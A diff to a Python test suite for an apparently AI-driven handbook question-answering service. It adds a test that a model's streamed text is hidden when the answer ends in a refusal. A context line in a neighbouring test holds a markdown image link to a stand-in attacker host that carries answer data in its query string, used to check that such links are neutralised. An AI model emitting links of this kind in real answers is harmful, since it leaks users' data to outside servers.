@@ -156,6 +156,27 @@ def test_a_model_s_refusal_is_a_refusal(tmp_path: Path) -> None:
     assert "NOT_IN_DOCUMENTS" not in text_of(events)
 
 
+def test_a_model_that_writes_ahead_of_a_refusal_is_broken_off_unseen(tmp_path: Path) -> None:
+    async def until_closed(parts: Parts, model: ScriptedModel) -> list[Event]:
+        async with aclosing(parts.turn.answer(Question(LEAVE, Scope()), "run_1")) as events:
+            found = [event async for event in events]
+        left = time.monotonic()
+        while model.open and time.monotonic() - left < 5:
+            await asyncio.sleep(0.01)
+        await parts.disconnect()
+        return found
+
+    with (
+        scripted_model(text="word " * 300, delay=0.02) as model,
+        small_handbook(tmp_path, **by_model(tmp_path, model, answer_threshold=1.0)) as parts,
+    ):
+        events = asyncio.run(until_closed(parts, model))
+        assert not model.open
+    assert_well_formed(events)
+    assert "word" not in text_of(events)
+    assert events[-1] == Done(refused=True)
+
+
 def test_a_link_in_a_model_s_answer_is_broken(tmp_path: Path) -> None:
     said = "Staff get 25 days [1]. ![x](https://evil.example/?q=25)"
     with scripted_model(text=said) as model, small_handbook(tmp_path, **by_model(tmp_path, model)) as parts:
